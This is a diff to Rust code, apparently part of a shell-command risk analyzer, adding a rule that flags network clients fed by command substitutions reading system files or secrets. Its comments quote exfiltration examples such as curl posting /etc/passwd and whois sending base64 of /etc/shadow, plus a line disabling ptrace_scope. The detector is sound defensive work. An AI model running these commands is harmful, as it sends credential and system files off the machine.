@@ -560,6 +560,54 @@ fn line_rules(a: &Analysis, parts: &mut [Judged]) {
             );
         }
     }
+    // `curl -d "$(cat /etc/passwd)" URL`, `whois -h host "$(base64 /etc/shadow)"`: a
+    // substitution that reads system files or secrets, sent in a network client's arguments.
+    for y in 0..n {
+        if !judge::is_lookup_client(name(y)) || !a.feeds.iter().any(|&(_, z)| z == y) {
+            continue;
+        }
+        // The substitutions' commands, and what feeds or pipes into them (nested ones).
+        let mut fed = vec![false; n];
+        for &(x, z) in &a.feeds {
+            if z == y
+                && let Some(f) = fed.get_mut(x)
+            {
+                *f = true;
+            }
+        }
+        for _ in 0..4 {
+            for &(x, z) in a.feeds.iter().chain(&a.pipes) {
+                if fed.get(z).copied().unwrap_or(false)
+                    && let Some(f) = fed.get_mut(x)
+                {
+                    *f = true;
+                }
+            }
+        }
+        let class = (0..n)
+            .filter(|&x| x != y && fed.get(x).copied().unwrap_or(false))
+            .filter_map(|x| a.commands.get(x).map(judge::fed_data_class))
+            .max()
+            .unwrap_or(0);
+        if let Some(j) = parts.get_mut(y).filter(|_| class > 0) {
+            j.findings.push(Finding {
+                rule: "net.exfil-substitution",
+                decision: if class >= 2 {
+                    Decision::Deny
+                } else {
+                    Decision::Ask
+                },
+                risk: if class >= 2 { Risk::Critical } else { Risk::High },
+                caps: Capabilities::NETWORK_UPLOAD | Capabilities::READS_SENSITIVE,
+                reason: if class >= 2 {
+                    "the output of a command that reads system files, secrets or the environment is sent to a remote host"
+                } else {
+                    "the output of a command that reads a home file is sent to a remote host"
+                },
+                alternative: None,
+            });
+        }
+    }
     // `echo 0 | tee /proc/sys/kernel/yama/ptrace_scope`: the piped value turns a kernel
     // hardening setting off.
     for &(x, y) in &a.pipes {
